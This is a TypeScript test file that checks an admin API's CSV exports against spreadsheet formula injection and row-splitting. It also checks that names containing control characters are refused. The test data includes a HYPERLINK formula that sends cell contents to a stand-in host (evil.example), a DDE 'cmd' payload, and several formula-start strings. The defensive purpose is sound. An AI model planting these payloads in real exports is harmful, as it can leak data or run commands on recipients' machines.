import { databaseKinds } from '../testing/harness';
import { makeOrders, useStaffSuite, type StaffSuite } from '../testing/fixtures';
import { formulaCells, parseCsv } from '../testing/csv';
import { openInCalc, sofficePath } from '../testing/libreoffice';

// A guard against a hang, not a speed limit: a test here took up to 2.4 s on PGlite on the loaded
// 2-core machine (full run, 2026-12-02); jest's default 5 s leaves no room for a second run beside it.
jest.setTimeout(30_000);

/*
 * Every CSV the API writes (Export CSV of a queue, Country Order List, Order Processed), with hostile
 * names planted straight in the database (as rows written before intake refused them would be): read
 * back by a real CSV parser and by LibreOffice Calc, no cell may hold a formula and no row may split.
 */

/** [first_name, sur_name]: line breaks before a formula, formula starts, quotes and commas. */
const HOSTILE_NAMES: Array<[string, string]> = [
  ['Maria', 'Lopez\n=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'],
  // Without a quote or comma in it, the old writer left this cell unquoted: its LF started a row.
  ['Luis', 'Lopez\n=HYPERLINK(A1&A2)'],
  ['Juan', "Perez\r\n+cmd|' /C calc'!A0"],
  ['Ana', 'Diaz\r@SUM(1+1)*cmd'],
  ['\n=5+5', 'Vega'],
  ['=1+1', 'Ruiz'],
  ['\t=2+2', 'Gil'],
  ['-3+3', 'Sanz'],
  ['Eva', 'Mora,"=4+4"'],
];
const HOSTILE_COUNTRIES = ['Spain\n=HYPERLINK("http://evil.example")', '=Cuba', '@Mexico', 'Peru\r-1+1'];
const HOSTILE_MEMBER = 'Boss\n=HYPERLINK("http://evil.example/member")';
const HOSTILE_PROCESSOR = 'Old Name\r\n=1+2';

/** Plants the hostile rows and returns the three exports as the Admin downloads them. */
async function hostileExports(suite: StaffSuite) {
  const { db } = suite.context.app;
  const admin = suite.staff.Admin;
  await makeOrders(
    db,
    HOSTILE_NAMES.map(([first_name, sur_name], i) => ({
      first_name,
      sur_name,
      citizenship: HOSTILE_COUNTRIES[i % HOSTILE_COUNTRIES.length]!,
    })),
  );
  // A member whose stored name has a line break (Manage Team refuses that now), and an order whose
  // processor is known only by an old name.
  await db.updateTable('team_members').set({ name: HOSTILE_MEMBER }).where('id', '=', admin.id).execute();
  const now = new Date();
  const [byMember, byOldName] = await makeOrders(db, [
    {
      process_status: 'Completed',
      processed_by: HOSTILE_MEMBER,
      processed_by_id: admin.id,
      processed_at: now,
    },
    { process_status: 'Completed', processed_by: HOSTILE_PROCESSOR, processed_at: now },
  ]);
  expect([byMember, byOldName]).toEqual([expect.any(Number), expect.any(Number)]);
  const download = async (url: string) => {
    const response = await suite.context.app.inject({
      method: 'GET',
      url,
      headers: { authorization: admin.token },
    });
    expect([url, response.statusCode]).toEqual([url, 200]);
    return response.body;
  };
  return {
    'orders.csv': await download('/api/admin/export/allOrder.csv?sort=order_id&order=asc'),
    'countries.csv': await download('/api/admin/export/countryOrders.csv'),
    'processed.csv': await download('/api/admin/export/processedBy.csv?sort=processed_by&order=asc'),
  };
}

const soffice = sofficePath();
const inCi = process.env.CI === 'true';
if (!soffice && !inCi) {
  const line = '!'.repeat(100);
  console.warn(
    `\n${line}\n!! LIBREOFFICE TEST SKIPPED: soffice is not installed. ` +
      `Install it with: sudo apt-get install -y libreoffice-calc-nogui\n${line}\n`,
  );
}

const lineBreaks = (text: string) => text.replace(/\r\n|\r/g, '\n');

describe.each(databaseKinds())('CSV exports with hostile names on %s', (kind) => {
  const suite = useStaffSuite(kind);

  it('a CSV parser finds every row whole, each name in its own cell, and no cell that starts a formula', async () => {
    const files = await hostileExports(suite);

    const orders = parseCsv(files['orders.csv']);
    expect(orders).toHaveLength(1 + HOSTILE_NAMES.length + 2);
    expect(formulaCells(orders)).toEqual([]);
    const names = orders.slice(1, 1 + HOSTILE_NAMES.length).map((row) => row[1]);
    expect(names).toEqual([
      'Maria Lopez\n=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      'Luis Lopez\n=HYPERLINK(A1&A2)',
      "Juan Perez\r\n+cmd|' /C calc'!A0",
      'Ana Diaz\r@SUM(1+1)*cmd',
      "'\n=5+5 Vega",
      "'=1+1 Ruiz",
      "'\t=2+2 Gil",
      "'-3+3 Sanz",
      'Eva Mora,"=4+4"',
    ]);

    const countries = parseCsv(files['countries.csv']);
    // The hostile countries and Spain (the two processed orders').
    expect(countries).toHaveLength(1 + HOSTILE_COUNTRIES.length + 1);
    expect(formulaCells(countries)).toEqual([]);
    expect(
      countries
        .slice(1)
        .map((row) => row[0])
        .sort(),
    ).toEqual(
      ["'=Cuba", "'@Mexico", 'Peru\r-1+1', 'Spain', 'Spain\n=HYPERLINK("http://evil.example")'].sort(),
    );

    const processed = parseCsv(files['processed.csv']);
    expect(processed).toEqual([
      ['S. No', 'Name', 'Order Count'],
      ['1', HOSTILE_MEMBER, '1'],
      ['2', HOSTILE_PROCESSOR, '1'],
    ]);
    expect(formulaCells(processed)).toEqual([]);
  }, 30_000);

  // LibreOffice takes ~10 s to start, and the files do not depend on the database: opened once, on PGlite.
  const calcTest = kind === 'pglite' && (soffice || inCi) ? it : it.skip;
  calcTest(
    'LibreOffice Calc opens each export with formulas evaluated and holds no formula, the rows whole',
    async () => {
      if (!soffice)
        throw new Error('CI=true but soffice is missing: apt-get install -y libreoffice-calc-nogui');
      const files = await hostileExports(suite);
      const sheets = await openInCalc(soffice, files);
      // First what matters most: the spreadsheet made no formula of any file.
      expect(Object.entries(sheets).map(([name, sheet]) => [name, sheet.formulas])).toEqual(
        Object.keys(files).map((name) => [name, []]),
      );
      for (const [name, csv] of Object.entries(files)) {
        const parsed = parseCsv(csv);
        const sheet = sheets[name]!;
        expect({ name, rows: sheet.rows.length }).toEqual({ name, rows: parsed.length });
        // Each text cell reads as the parser read it (Calc keeps a line break inside its cell).
        const column = name === 'orders.csv' ? 1 : name === 'countries.csv' ? 0 : 1;
        expect(sheet.rows.map((row) => lineBreaks(row[column] ?? ''))).toEqual(
          parsed.map((row) => lineBreaks(row[column] ?? '')),
        );
      }
    },
    180_000,
  );
});

describe.each(databaseKinds())('Manage Team refuses a name that would split a row, on %s', (kind) => {
  const suite = useStaffSuite(kind);

  it.each([
    ['a line feed', 'Boss\n=HYPERLINK("http://evil.example")'],
    ['a carriage return', 'Boss\r+1'],
    ['a tab', 'Boss\t@SUM(1)'],
  ])(
    'with %s: 400 naming the field, nothing written or changed',
    async (_what, name) => {
      const { Admin, Team } = suite.staff;
      const message =
        'Invalid name: must be a single line of text (no line breaks, tabs or other control characters)';
      const added = await suite.as(Admin.token, 'POST', '/api/admin/add-team-member', {
        name,
        email: 'new.member@example.com',
        password: 'lantern-glow-12',
        type: 'Team',
      });
      expect([added.code, added.body]).toEqual([400, { status: 0, message, data: null }]);
      const updated = await suite.as(Admin.token, 'POST', '/api/admin/update-team-member', {
        tmId: Team.id,
        name,
        email: Team.email,
        password: '',
        type: 'Team',
      });
      expect([updated.code, updated.body]).toEqual([400, { status: 0, message, data: null }]);
      const members = await suite.context.app.db
        .selectFrom('team_members')
        .select(['email', 'name'])
        .execute();
      expect(members.map((m) => m.email)).not.toContain('new.member@example.com');
      expect(members.find((m) => m.email === Team.email)?.name).toBe(Team.name);
    },
    30_000,
  );
});
